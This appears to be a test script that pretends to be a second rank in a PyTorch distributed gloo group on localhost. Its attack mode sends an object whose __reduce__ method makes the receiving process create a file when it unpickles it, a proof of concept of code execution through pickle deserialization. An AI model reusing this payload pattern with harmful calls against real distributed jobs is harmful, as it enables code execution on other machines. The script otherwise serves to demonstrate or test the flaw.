"""Pretend to be rank 1 of 2. Arguments: PORT ATTACK FILE.

Instead of a proof, it sends an object that creates FILE when it is unpickled (ATTACK `pickle`), or
leaves (`leave`). A process of root first becomes `nobody`.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path
from typing import Any

import torch
import torch.distributed as dist

NOBODY = 65534


class Payload:
    """An object that creates a file where it is unpickled."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (Path(self.file),)


def send_bytes(count: int) -> None:
    """Take part in an all_gather of `count` bytes with random bytes."""
    received = [torch.zeros(count, dtype=torch.uint8) for _ in range(2)]
    dist.all_gather(received, torch.randint(0, 256, (count,), dtype=torch.uint8))


def main(port: str, attack: str, file: str) -> None:
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    store = dist.TCPStore("127.0.0.1", int(port), 2, is_master=False)
    dist.init_process_group("gloo", store=store, rank=1, world_size=2)
    print("joined", flush=True)
    send_bytes(32)
    if attack == "pickle":
        dist.all_gather_object([None, None], Payload(file))
    os._exit(0)


if __name__ == "__main__":
    main(*sys.argv[1:])
